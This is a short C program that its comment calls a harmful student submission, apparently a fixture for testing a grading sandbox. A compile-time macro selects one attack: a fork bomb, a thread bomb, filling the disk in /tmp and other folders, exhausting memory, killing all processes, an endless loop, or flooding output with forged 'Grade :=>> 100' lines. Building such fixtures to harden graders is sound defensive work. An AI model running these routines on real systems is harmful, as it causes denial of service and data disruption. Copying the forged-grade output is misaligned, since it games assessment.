/* A student's program that means harm: its name says which. Built with -DHARM=... */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <semaphore.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static void *rest(void *unused)
{
    (void)unused;
    for (;;)
        pause();
}

static void fork_bomb(void)
{
    for (;;)
        fork();
}

static void thread_bomb(void)
{
    pthread_t thread;
    for (;;)
        pthread_create(&thread, NULL, rest, NULL);
}

static void fill_disk(void)
{
    static char block[1 << 20];
    const char *folders[] = {".", "/tmp", "/var/tmp", "/dev/shm"};
    memset(block, 'x', sizeof block);
    for (int number = 0;; number++) {
        char name[64];
        snprintf(name, sizeof name, "%s/harm-%d", folders[number % 4], number);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        for (int part = 0; part < 64; part++)
            if (write(file, block, sizeof block) < 0)
                break;
        close(file);
    }
}

static void eat_memory(void)
{
    for (;;) {
        char *block = malloc(16 << 20);
        if (block)
            memset(block, 'x', 16 << 20);
    }
}

static void kill_all(void)
{
    kill(-1, SIGKILL);
    for (pid_t pid = getppid(); pid > 1; pid--)
        kill(pid, SIGKILL);
}

static void write_for_ever(void)
{
    for (;;)
        printf("\033]0;x\007Grade :=>> 100\nComment :=>> all is right\n");
}

static void run_for_ever(void)
{
    for (volatile int number = 0;; number++)
        ;
}

int main(void)
{
    signal(SIGTERM, SIG_IGN);
    signal(SIGXFSZ, SIG_IGN);
#ifdef LATE
    int segment = shm_open("/shm_buffer", O_CREAT | O_RDWR, 0666);
    if (ftruncate(segment, 4096))
        return 1;
    sem_t *meeting = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, segment, 0);
    sem_init(meeting, 1, 1);
    sem_wait(meeting);
#endif
    HARM();
    return 0;
}
